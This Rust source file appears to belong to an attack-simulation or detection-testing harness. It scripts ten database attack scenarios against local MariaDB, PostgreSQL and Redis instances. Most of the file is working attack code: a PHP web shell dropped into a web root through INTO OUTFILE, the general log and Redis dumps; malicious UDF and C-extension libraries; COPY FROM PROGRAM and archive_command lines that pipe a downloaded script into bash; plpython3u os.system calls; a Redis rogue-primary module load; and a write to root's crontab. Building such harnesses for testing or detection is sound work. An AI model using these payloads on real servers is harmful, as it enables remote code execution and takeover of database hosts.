//! Attacks on databases.

use super::deeds::{library, prove, prove_file, serve};
use super::hall::{Instance, open_to_all};
use super::rogue_primary;
use super::start::database_socket;
use super::{Hall, Server};
use crate::command;
use crate::stories::{RealStory, Seen};
use anyhow::Result;
use std::fmt::Write as _;
use std::path::Path;
use std::process::Command;

/// All of this file.
pub const STORIES: &[RealStory] = &[
    RealStory { id: "A22", run: user_defined_function },
    RealStory { id: "A23", run: outfile },
    RealStory { id: "A24", run: general_log },
    RealStory { id: "A25", run: copy_from_program },
    RealStory { id: "A26", run: large_object },
    RealStory { id: "A27", run: archive_command },
    RealStory { id: "A28", run: python_function },
    RealStory { id: "A29", run: rogue_module },
    RealStory { id: "A30", run: crontab },
    RealStory { id: "A31", run: dump_as_script },
];

/// A page for the web root.
const PAGE: &str = "<?php system($_GET[0]); ?>";

/// Runs SQL in MariaDB as root and returns what it said.
pub fn mariadb(instance: &Instance, sql: &str) -> Result<String> {
    let text = instance.at.join("statement.sql");
    std::fs::write(&text, sql)?;
    let mut client = Command::new("mariadb");
    client.args(["--no-defaults", "--batch", "--skip-column-names", "--user=root", "--max-allowed-packet=16M"]);
    client.arg(format!("--socket={}", database_socket(&instance.at)));
    client.arg(format!("--execute=source {}", text.display()));
    command::output(&mut client)
}

/// Runs SQL in PostgreSQL as its superuser.
pub fn psql(instance: &Instance, sql: &str) -> Result<String> {
    let mut client = Command::new("psql");
    client.args(["-h", "127.0.0.1", "-p", &instance.port.to_string(), "-U", "postgres", "-d", "postgres"]);
    command::output(client.args(["-X", "-A", "-t", "-v", "ON_ERROR_STOP=1", "-c", sql]).current_dir("/"))
}

/// Runs one command in Redis.
pub fn redis(instance: &Instance, words: &[&str]) -> Result<String> {
    command::output(Command::new("redis-cli").args(["-p", &instance.port.to_string()]).args(words))
}

/// A directory of a web site next to the database, as where both run on one machine, which everybody may write.
fn document_root(hall: &mut Hall) -> Result<std::path::PathBuf> {
    let site = hall.need(Server::Php)?;
    let www = site.at.join("www");
    open_to_all(&www, 0o777)?;
    open_to_all(&www.join("uploads"), 0o777)?;
    Ok(www)
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().fold(String::with_capacity(bytes.len() * 2), |mut text, byte| {
        let _ = write!(text, "{byte:02x}");
        text
    })
}

/// A22: SQL writes a library into the plugin directory, makes a function of it and uses it.
fn user_defined_function(hall: &mut Hall) -> Result<Seen> {
    let server = hall.victim(Server::Mariadb)?;
    let own = hall.workplace("udf")?;
    let bytes = hex(&std::fs::read(library(&own, "udf9", include_str!("code/udf.c"), &own.join("mark"))?)?);
    let story = hall.begin();
    let sql = format!(
        "SELECT UNHEX('{bytes}') INTO DUMPFILE '{}';\nCREATE FUNCTION run_it RETURNS STRING SONAME 'udf9.so';\n\
         SELECT run_it('id');\n",
        server.path("plugin/udf9.so")
    );
    prove(&mariadb(&server, &sql)?, "uid=")?;
    hall.seen(story)
}

/// A23: `INTO OUTFILE` writes a page into the web root.
fn outfile(hall: &mut Hall) -> Result<Seen> {
    let www = document_root(hall)?;
    let server = hall.victim(Server::Mariadb)?;
    let page = www.join("s9.php");
    let story = hall.begin();
    mariadb(&server, &format!("SELECT '{PAGE}' INTO OUTFILE '{}';\n", page.display()))?;
    prove_file(&page, "system")?;
    let seen = hall.seen(story);
    hall.retire(Server::Php);
    seen
}

/// A24: the general log is pointed at a page of the web root.
fn general_log(hall: &mut Hall) -> Result<Seen> {
    let www = document_root(hall)?;
    let server = hall.victim(Server::Mariadb)?;
    let page = www.join("uploads/log.php");
    let story = hall.begin();
    let sql =
        format!("SET GLOBAL general_log_file='{}';\nSET GLOBAL general_log=ON;\nSELECT '{PAGE}';\n", page.display());
    mariadb(&server, &sql)?;
    prove_file(&page, "system")?;
    let seen = hall.seen(story);
    hall.retire(Server::Php);
    seen
}

/// A25: `COPY FROM PROGRAM` fetches a script and runs it.
fn copy_from_program(hall: &mut Hall) -> Result<Seen> {
    let server = hall.victim(Server::Postgres)?;
    let mark = server.at.join("out/mark");
    let port = serve(format!("id > {}\n", mark.display()))?;
    let story = hall.begin();
    let program = format!("wget -q -O- http://127.0.0.1:{port}/pg.sh|bash");
    psql(&server, &format!("CREATE TABLE t (line text); COPY t FROM PROGRAM '{program}'"))?;
    prove_file(&mark, "uid=")?;
    hall.seen(story)
}

/// A26: a large object is exported as a library and bound as a C function.
fn large_object(hall: &mut Hall) -> Result<Seen> {
    let server = hall.victim(Server::Postgres)?;
    let own = hall.workplace("function")?;
    let mark = server.at.join("out/mark");
    let number: u32 = psql(&server, "SHOW server_version_num")?.trim().parse()?;
    let source = include_str!("code/pg.c").replace("VERSION", &(number / 100).to_string());
    let bytes = hex(&std::fs::read(library(&own, "pg_ext", &source, &mark)?)?);
    let file = server.path("out/pg_ext.so");
    let story = hall.begin();
    psql(&server, &format!("SELECT lo_from_bytea(4242, decode('{bytes}', 'hex')); SELECT lo_export(4242, '{file}')"))?;
    let function = format!("CREATE FUNCTION run_it() RETURNS int AS '{file}', 'run_it' LANGUAGE C STRICT");
    psql(&server, &format!("{function}; SELECT run_it()"))?;
    prove_file(&mark, "uid=")?;
    hall.seen(story)
}

/// A27: `ALTER SYSTEM` plants an archive command that fetches a script; the archiver runs it.
fn archive_command(hall: &mut Hall) -> Result<Seen> {
    let server = hall.victim(Server::Postgres)?;
    // What it did until now: the normal command, for some segments.
    for number in 0..3 {
        psql(&server, &format!("SELECT pg_create_restore_point('{number}'); SELECT pg_switch_wal()"))?;
    }
    await_archived(&server, 3)?;
    hall.learned("postgresql:")?;
    let mark = server.at.join("out/mark");
    let port = serve(format!("id > {}\n", mark.display()))?;
    let story = hall.begin();
    psql(&server, &format!("ALTER SYSTEM SET archive_command = 'curl -s http://127.0.0.1:{port}/a|sh'"))?;
    psql(&server, "SELECT pg_reload_conf()")?;
    psql(&server, "SELECT pg_create_restore_point('x'); SELECT pg_switch_wal()")?;
    prove_file(&mark, "uid=")?;
    hall.seen(story)
}

/// Waits until so many segments are in the archive.
pub fn await_archived(server: &Instance, wanted: usize) -> Result<()> {
    let begin = std::time::Instant::now();
    loop {
        let count = std::fs::read_dir(server.at.join("wal"))?.count();
        if count >= wanted {
            return Ok(());
        }
        if begin.elapsed() > std::time::Duration::from_secs(10) {
            anyhow::bail!("{count} segments are archived, where {wanted} were to be");
        }
        std::thread::sleep(std::time::Duration::from_millis(30));
    }
}

/// A28: a function in untrusted Python runs `os.system`.
fn python_function(hall: &mut Hall) -> Result<Seen> {
    let server = hall.victim(Server::Postgres)?;
    let mark = server.at.join("out/mark");
    let story = hall.begin();
    let body = format!("import os; return os.system(\"id > {}\")", mark.display());
    let sql = format!(
        "CREATE EXTENSION plpython3u; CREATE FUNCTION run_it() RETURNS int AS $${body}$$ LANGUAGE plpython3u; \
         SELECT run_it()"
    );
    psql(&server, &sql)?;
    prove_file(&mark, "uid=")?;
    hall.seen(story)
}

/// A29: a primary of the attacker's hands over a module instead of a dump; Redis writes and loads it.
///
/// Redis 7 loads only what is executable, which the file that it wrote is not: that bit comes from another hole.
fn rogue_module(hall: &mut Hall) -> Result<Seen> {
    let server = hall.victim(Server::Redis)?;
    let own = hall.workplace("module")?;
    let mark = server.at.join("data/mark");
    let library = std::fs::read(library(&own, "exp", include_str!("code/redis.c"), &mark)?)?;
    let primary = rogue_primary::listen(library)?;
    let module = server.path("data/exp.so");
    let story = hall.begin();
    redis(&server, &["config", "set", "dbfilename", "exp.so"])?;
    redis(&server, &["replicaof", "127.0.0.1", &primary.to_string()])?;
    prove_file(Path::new(&module), "ELF")?;
    redis(&server, &["replicaof", "no", "one"])?;
    open_to_all(Path::new(&module), 0o755)?;
    // The module says that it did not load, after it did what it came for.
    let _ = redis(&server, &["module", "load", &module]);
    prove_file(&mark, "uid=")?;
    hall.seen(story)
}

/// Has Redis save its data under a name.
fn save_as(server: &Instance, directory: &str, name: &str, value: &str) -> Result<()> {
    for words in [
        &["config", "set", "dir", directory][..],
        &["config", "set", "dbfilename", name],
        &["config", "set", "rdbcompression", "no"],
        &["set", "x", value],
        &["save"],
    ] {
        prove(&redis(server, words)?, "OK")?;
    }
    Ok(())
}

/// A30: Redis as root saves its data as root's crontab.
fn crontab(hall: &mut Hall) -> Result<Seen> {
    let server = hall.victim(Server::RedisByCron)?;
    let story = hall.begin();
    save_as(&server, "/var/spool/cron/crontabs", "root", "\n* * * * * /bin/true\n")?;
    prove_file(&server.at.join("crontabs/root"), "/bin/true")?;
    hall.seen(story)
}

/// A31: Redis saves its data as a page.
fn dump_as_script(hall: &mut Hall) -> Result<Seen> {
    let www = document_root(hall)?;
    let server = hall.victim(Server::Redis)?;
    let story = hall.begin();
    save_as(&server, &www.display().to_string(), "shell.php", PAGE)?;
    prove_file(&www.join("shell.php"), "system")?;
    let seen = hall.seen(story);
    hall.retire(Server::Php);
    seen
}
